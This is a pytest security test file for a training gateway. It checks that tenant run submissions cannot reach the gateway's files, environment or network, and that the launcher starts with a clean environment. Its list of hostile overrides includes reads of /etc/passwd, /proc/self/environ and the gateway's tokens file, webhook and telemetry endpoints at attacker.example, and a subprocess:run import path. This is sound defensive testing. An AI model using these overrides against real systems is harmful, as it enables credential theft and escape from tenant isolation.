"""A submitted run is a tenant: its config cannot reach the gateway's files, environment or
network, and its launcher starts with a clean environment.

A real gateway (HTTP API) whose tenant policy allows one data root, one host and one
variable, and whose own environment holds its tokens file's path and a planted secret. An
admin submits hostile configs (the attacks SubmitRun allowed: read any file as data or as a
token file, send the gateway's environment to a webhook, reach any host, run code named by
import path): each is refused before anything starts, naming the key and the rule. A fair
submission starts `meshrl train`, whose environment holds neither the tokens file nor the
secret, only what the policy passes.

Run: .venv/bin/python -m pytest tests/security/test_tenant_submissions.py -q
"""

from __future__ import annotations

import os
import signal

import aiohttp
import pytest
import pytest_asyncio

from meshrl.gateway.auth.tenant import TenantPolicy
from tests.fixtures.gateway import gateway_for

ADMIN = "admin-token-tenants-0123456789"
ALLOWED_HOST = "judge.tenant.example:443"
PLANTED = "gateway-secret-5b1d"
pytestmark = pytest.mark.asyncio(loop_scope="session")


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def gateway(tmp_path_factory):
    """(HTTP session, runs root, tenant data root, the gateway's tokens file)."""
    top = tmp_path_factory.mktemp("tenants")
    runs, data, own = top / "runs", top / "tenant-data", top / "gateway"
    for folder in (runs, data / "model", own):
        folder.mkdir(parents=True)
    (data / "train.jsonl").write_text(
        '{"prompt": [{"role": "user", "content": "1+1?"}], "reward_model": {"ground_truth": "2"}}\n'
    )
    (data / "innocent.jsonl").symlink_to(own / "tokens.yaml")  # a link out of the root
    policy = TenantPolicy(roots=[data], hosts=[ALLOWED_HOST], env_names=["JUDGE_TOKEN"])
    gw = await gateway_for(runs, own, tenants=policy, ada=("admin", ADMIN))  # its tokens: gateway/tokens.yaml
    async with aiohttp.ClientSession(f"http://127.0.0.1:{gw.http_port}") as http:
        yield http, runs, data, own / "tokens.yaml"
    await gw.stop()


def config_yaml(data) -> str:
    return (
        f"model: {{path: {data / 'model'}}}\ndata: {{train: {data / 'train.jsonl'}}}\n"
        "reward: {components: [{name: correct, kind: math_verify}]}\n"
    )


async def submit(http, name: str, yaml_text: str, overrides: list[str]):
    body = {"name": name, "config_yaml": yaml_text, "overrides": overrides}
    async with http.post("/api/runs", json=body, headers={"Authorization": f"Bearer {ADMIN}"}) as r:
        return r.status, await r.json()


OUT_OF_ROOTS = "a submitted run's files must lie in the gateway's tenant roots"
NOT_ALLOWED_HOST = "a submitted run may reach only the gateway's allowed hosts"
HOSTILE = [  # (override list, given paths: data root D, gateway's tokens T), the key, the rule
    (["data.train=/etc/passwd"], "data.train", OUT_OF_ROOTS),
    (["data.train={D}/../gateway/tokens.yaml"], "data.train", OUT_OF_ROOTS),
    (["data.train={D}/innocent.jsonl"], "data.train", OUT_OF_ROOTS),
    (["data.eval=/proc/self/environ"], "data.eval", OUT_OF_ROOTS),
    (["model.path=/"], "model.path", OUT_OF_ROOTS),
    (["model.tokenizer=/root"], "model.tokenizer", OUT_OF_ROOTS),
    (
        ["alerts.webhook={url: 'https://judge.tenant.example/h', token_file: '{T}'}"],
        "alerts.webhook.token_file",
        OUT_OF_ROOTS,
    ),
    (["alerts.webhook={url: 'https://attacker.example/hook'}"], "alerts.webhook.url", NOT_ALLOWED_HOST),
    (
        ["alerts.webhook={url: 'https://judge.tenant.example/h', token_env: MESHRL_GATEWAY_TOKENS_FILE}"],
        "alerts.webhook.token_env",
        "a submitted run sees only the variables the gateway passes",
    ),
    (
        ["reward.components=[{name: correct, kind: external, address: 'attacker.example:50051'}]"],
        "reward.components[0].address",
        NOT_ALLOWED_HOST,
    ),
    (
        [
            "reward.components=[{name: correct, kind: external, address: 'judge.tenant.example:443', "
            "token_file: /proc/self/environ}]"
        ],
        "reward.components[0].token_file",
        OUT_OF_ROOTS,
    ),
    (
        ["reward.components=[{name: correct, kind: external, address: 'judge.tenant.example:443', token_env: HOME}]"],
        "reward.components[0].token_env",
        "a submitted run sees only the variables",
    ),
    (
        [
            "reward.components=[{name: correct, kind: external, address: 'judge.tenant.example:443', "
            "tls: {ca_file: '{T}'}}]"
        ],
        "reward.components[0].tls.ca_file",
        OUT_OF_ROOTS,
    ),
    (
        ["reward.components=[{name: correct, kind: external, address: '127.0.0.1:8081'}]"],
        "reward.components[0].address",
        NOT_ALLOWED_HOST,
    ),
    (["reference.address=127.0.0.1:8081"], "reference.address", NOT_ALLOWED_HOST),
    (["telemetry.otlp_endpoint=http://attacker.example:4317"], "telemetry.otlp_endpoint", NOT_ALLOWED_HOST),
    (["nats.url=nats://attacker.example:4222"], "nats.url", NOT_ALLOWED_HOST),
    (
        ["telemetry.trackers=[mlflow]", "telemetry.mlflow.tracking_uri=http://attacker.example:5000"],
        "telemetry.mlflow.tracking_uri",
        NOT_ALLOWED_HOST,
    ),
    (["telemetry.trackers=[wandb]", "telemetry.wandb.mode=online"], "telemetry.wandb.mode", NOT_ALLOWED_HOST),
    (["environment={name: tools, address: 'attacker.example:50070'}"], "environment.address", NOT_ALLOWED_HOST),
    (["algorithm.policy_loss=subprocess:run"], "algorithm.policy_loss", "may not name a part by import path"),
]


@pytest.mark.parametrize("overrides,key,rule", HOSTILE, ids=[f"{i}-{case[1]}" for i, case in enumerate(HOSTILE)])
async def test_a_hostile_submission_is_refused_before_anything_starts(gateway, overrides, key, rule):
    http, runs, data, tokens = gateway
    given = [o.replace("{D}", str(data)).replace("{T}", str(tokens)) for o in overrides]
    name = f"hostile-{abs(hash(key + rule)) % 10**8}"
    status, body = await submit(http, name, config_yaml(data), given)
    assert status == 400, body
    assert body["error"].startswith(f"{key}: ") and rule in body["error"], body["error"]
    assert not (runs / ".submitted" / f"{name}.log").exists() and not (runs / ".submitted" / f"{name}.yaml").exists()


async def test_a_fair_submission_starts_with_a_clean_environment(gateway, monkeypatch):
    http, runs, data, tokens = gateway
    monkeypatch.setenv("MESHRL_GATEWAY_TOKENS_FILE", str(tokens))  # the gateway's own environment
    monkeypatch.setenv("GATEWAY_SECRET", PLANTED)
    monkeypatch.setenv("JUDGE_TOKEN", "tenant-judge-token")  # the one the policy passes
    status, body = await submit(http, "fair", config_yaml(data), [])
    assert status == 200, body
    pid = int(body["launcher_pid"])
    try:
        environ = dict(
            line.split("=", 1) for line in open(f"/proc/{pid}/environ", "rb").read().decode().split("\0") if "=" in line
        )
    finally:
        os.killpg(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    assert "MESHRL_GATEWAY_TOKENS_FILE" not in environ and PLANTED not in environ.values()
    assert environ["JUDGE_TOKEN"] == "tenant-judge-token" and "PATH" in environ
    assert oct(os.stat(runs / ".submitted").st_mode & 0o777) == "0o700"
    assert oct(os.stat(runs / ".submitted" / "fair.yaml").st_mode & 0o777) == "0o600"
